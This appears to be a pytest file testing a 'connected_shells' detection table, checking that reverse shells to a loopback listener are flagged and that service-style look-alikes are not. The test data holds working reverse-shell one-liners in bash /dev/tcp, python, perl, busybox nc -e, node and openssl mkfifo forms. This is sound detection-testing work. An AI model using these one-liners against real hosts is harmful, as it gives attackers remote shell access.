"""Shells over real connections to a listener on loopback, however they are made, and what only looks like one."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from tables.host import Host
from tables.network.connected_shells import ConnectedShell, connected_shells
from tables.schema import QueryContext
from tests.support.connections import listener
from tests.support.osquery_wire import wait_until

PYTHON = (
    "import os, socket, subprocess; s = socket.socket(); s.connect(('127.0.0.1', {port})); "
    "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])"
)
PERL = (
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, inet_aton('127.0.0.1'))); "
    'open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'
)
NODE = (
    "const c = require('net').connect({port}, '127.0.0.1'); const s = require('child_process').spawn('/bin/sh', []); "
    "c.pipe(s.stdin); s.stdout.pipe(c);"
)
FIFO = "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{port} > f"
THROUGH_CAT = "mkfifo f; cat f | /bin/sh -i 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{port} > f"
SHELLS = {
    "bash": (["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], "socket"),
    "bash, by a number": (["bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/{port}; exec sh <&5 >&5"], "socket"),
    "python": ([sys.executable, "-c", PYTHON], "socket"),
    "perl": (["perl", "-e", PERL], "socket"),
    "busybox": (["busybox", "nc", "127.0.0.1", "{port}", "-e", "/bin/sh"], "socket"),
    "node": (["node", "-e", NODE], "relay"),
    "openssl": (["sh", "-c", FIFO], "fifo"),
    "openssl, through cat": (["sh", "-c", THROUGH_CAT], "fifo"),
    "openssl into a pipe": (["sh", "-c", "openssl s_client -quiet -connect 127.0.0.1:{port} 2>&1 | sh"], "pipe"),
}


LED = ("bash", "dash", "sh", "busybox")
Start = Callable[..., "subprocess.Popen[bytes]"]


def name_of(row: ConnectedShell) -> str:
    return (row.exe_path or "").rpartition("/")[2]


@pytest.fixture
def port() -> Iterator[int]:
    with listener() as server:
        yield server.getsockname()[1]


@pytest.fixture
def start(tmp_path: Path) -> Iterator[Start]:
    """Starts a command as the leader of a session, all of which is ended afterwards."""
    started: list[subprocess.Popen[bytes]] = []

    def begin(argv: Sequence[str], **options: object) -> subprocess.Popen[bytes]:
        options.setdefault("stdin", subprocess.DEVNULL)
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "start_new_session": True}
        process = subprocess.Popen(argv, cwd=tmp_path, **quiet, **options)  # type: ignore[call-overload]
        started.append(process)
        return process

    yield begin
    for process in started:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def rows(port: int) -> list[ConnectedShell]:
    return [row for row in connected_shells.generate(Host(), QueryContext()) if row.remote_port == port]


@pytest.mark.root
@pytest.mark.parametrize("name", SHELLS)
def test_a_shell_that_somebody_leads(name: str, port: int, start: Start) -> None:
    argv, how = SHELLS[name]
    if shutil.which(argv[0]) is None or ("openssl" in name and shutil.which("openssl") is None):
        pytest.skip(f"no {argv[0]}")
    start([word.replace("{port}", str(port)) for word in argv])
    found = wait_until(lambda: [row for row in rows(port) if row.how == how and name_of(row) in LED], "the shell")
    assert (found[0].remote_address, found[0].protocol) == ("127.0.0.1", 6)
    assert (found[0].relay_pid is None) == (how == "socket")


@pytest.mark.root
def test_who_is_served_a_connection_and_runs_a_program_of_its_own(port: int, start: Start, tmp_path: Path) -> None:
    script = tmp_path / "agent.sh"
    script.write_text("#!/bin/bash\nread x\n")
    with socket.create_connection(("127.0.0.1", port)) as connection:
        # As super-servers start their services (inetd(8), systemd.socket(5) with Accept=yes).
        start(["bash", str(script)], stdin=connection)
        start(["sh", "-c", "read x"], stdin=connection)
        start([sys.executable, str(script)], stdin=connection)
    assert wait_until(lambda: [one for one in Host().truth.processes() if str(script) in one.cmdline], "the services")
    assert rows(port) == []


@pytest.mark.root
def test_shells_that_a_program_with_connections_starts_for_its_own_user(port: int, start: Start, tmp_path: Path) -> None:
    server = tmp_path / "console.py"
    server.write_text(
        f"import socket, subprocess, time\nc = socket.create_connection(('127.0.0.1', {port}))\n"
        "subprocess.Popen(['sh', '-i'], stdin=subprocess.PIPE); print('ready', flush=True); time.sleep(600)\n"
    )
    start([sys.executable, str(server)])
    ours, theirs = socket.socketpair()
    start(["sh", "-i"], stdin=theirs)
    wait_until(lambda: [one for one in Host().truth.processes() if one.parent_name and str(server) in one.cmdline], "the console")
    wait_until(lambda: [one for one in Host().truth.processes() if one.argv == ["sh", "-i"]], "the shells")
    assert rows(port) == []
    ours.close()
    theirs.close()
